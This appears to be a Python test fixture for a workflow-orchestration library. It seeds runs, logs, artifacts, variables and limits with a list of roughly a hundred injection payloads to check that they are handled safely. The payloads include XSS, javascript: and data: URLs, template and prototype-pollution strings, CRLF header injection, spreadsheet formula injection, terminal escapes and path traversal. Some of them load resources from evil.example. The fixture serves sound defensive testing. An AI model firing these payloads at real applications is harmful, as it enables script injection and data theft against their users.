"""Text that wants to be more than text, put wherever others' text goes: `fill(folder)`."""

import contextlib
from pathlib import Path
from typing import Any

PAYLOADS = [
    "<script>owned()</script>",
    "</script><script>owned()</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script src=data:text/javascript,owned()></script>",
    "<img src=x onerror=owned()>",
    '"><img src=x onerror=owned()>',
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a.png 1x'>",
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=owned()>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:owned()></foreignObject></svg>",
    "<body onload=owned()>",
    "<details open ontoggle=owned()>x</details>",
    "<input autofocus onfocus=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src=//evil.example/x.mp3 autoplay onerror=owned()>",
    "<marquee onstart=owned()>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()>",
    "<iframe src=javascript:owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<object data=javascript:owned()></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<div style='background:url(javascript:owned())'>x</div>",
    "<form action=//evil.example/><button>x</button></form>",
    "<button formaction=javascript:owned()>x</button>",
    "<a href=javascript:owned()>x</a>",
    "<a href='java\tscript:owned()'>x</a>",
    "<a href='&#106;avascript:owned()'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<!--><script>owned()</script-->",
    "<![CDATA[<script>owned()</script>]]>",
    "<textarea></textarea><script>owned()</script>",
    "<template><script>owned()</script></template>",
    "[x](javascript:owned())",
    "[x](JaVaScRiPt:owned())",
    "[x](data:text/html,<script>owned()</script>)",
    "[x](vbscript:owned())",
    "[x]: javascript:owned()\n\n[x]",
    "<javascript:owned()>",
    "![x](//evil.example/pixel.png)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:owned())",
    '![x](x "onerror=owned()")',
    '[x](https://example.org/ "\\"onmouseover=owned()")',
    "| a | b |\n|---|---|\n| <img src=x onerror=owned()> | [x](javascript:owned()) |",
    "```html\n<script>owned()</script>\n```",
    "{{constructor.constructor('owned()')()}}",
    "${owned()}",
    "#{owned()}",
    "<%= owned() %>",
    "{% raw %}{{owned()}}{% endraw %}",
    "javascript:owned()",
    "javascript://example.org/%0aowned()",
    "data:text/html,<script>owned()</script>",
    "data:image/svg+xml,<svg onload=owned()>",
    "//evil.example/x",
    'https://example.org/" onmouseover=owned() x="',
    "__proto__",
    "constructor",
    "prototype",
    "__proto__[polluted]",
    "toString",
    "hasOwnProperty",
    "\u202eexe.fdp\u202c",
    "\u2066\u202e)(\u2069",
    "a\u200bb\ufeffc\u00ad",
    "Z\u0351\u036b\u0343\u036a" * 60,
    "\U0001f3f3\ufe0f\u200d\U0001f308" * 20,
    "a\x00b",
    "\x1b[31mred\x1b[0m \x1b]8;;javascript:owned()\x07link\x1b]8;;\x07",
    "\x1b]0;owned\x07\x1b[2J\x1b[6n",
    "\r\nSet-Cookie: owned=1\r\n\r\n<script>owned()</script>",
    '=HYPERLINK("javascript:owned()")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "(a+)+$" + "a" * 64,
    "x" * 20_000,
    "<" * 5_000,
    "[" * 3_000 + "](",
    "> " * 2_000 + "x",
    "*a_" * 2_000,
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "&lt;script&gt;owned()&lt;/script&gt;",
    "%3Cscript%3Eowned()%3C/script%3E",
    "';owned();//",
    '"-owned()-"',
    "`-owned()-`",
    "</title><script>owned()</script>",
    "../../../etc/passwd",
    "?__proto__[polluted]=1#<script>owned()</script>",
]


def fill(folder: Path) -> None:
    """Make a run, with a task, its log, artifacts and failure, of each text. What is refused is not made."""
    from perdure.testing.home import fresh_home

    with fresh_home(folder):
        for text in PAYLOADS:
            with contextlib.suppress(Exception):  # a text may be refused, or is raised
                _run(text)
        for text in PAYLOADS:
            with contextlib.suppress(Exception):
                _settle(text)


def _run(text: str) -> None:
    from perdure import flow, get_run_logger, tags, task
    from perdure.artifacts import create_link_artifact, create_markdown_artifact, create_table_artifact

    short = text[:150]

    def work(value: Any) -> Any:
        get_run_logger().error(text)
        create_markdown_artifact(text, description=text)
        create_table_artifact([{text: text, "__proto__": {"polluted": 1}}], description=text)
        with contextlib.suppress(ValueError):
            create_link_artifact(text, text)
        return {text: value, "__proto__": {"polluted": text}}

    def hostile(value: Any) -> None:
        made = _named(task, work, short, persist_result=True)(value)
        raise ValueError(text, made)

    with contextlib.ExitStack() as stack:
        with contextlib.suppress(Exception):
            stack.enter_context(tags(short))
        _named(flow, hostile, short, flow_run_name=lambda: short)({text: [text], "__proto__": {"polluted": 1}})


def _named(make: Any, function: Any, name: str, **options: Any) -> Any:
    """A flow or task of the name; of its own where the name is refused."""
    for named in ({"name": name}, {}):
        with contextlib.suppress(Exception):
            return make(**named, **options)(function)
    raise AssertionError


def _settle(text: str) -> None:
    from perdure import session
    from perdure._platform.clock import system_clock
    from perdure.filesystems import LocalFileSystem
    from perdure.records import Limit
    from perdure.variables import Variable

    number = PAYLOADS.index(text)
    Variable.set(f"variable-{number}", {text: text})
    if number < 5:
        LocalFileSystem(basepath=f"/tmp/{text}").save(f"block-{number}")
    session.current().orchestrator.limits.put(Limit(text[:150], 1, None, system_clock()))
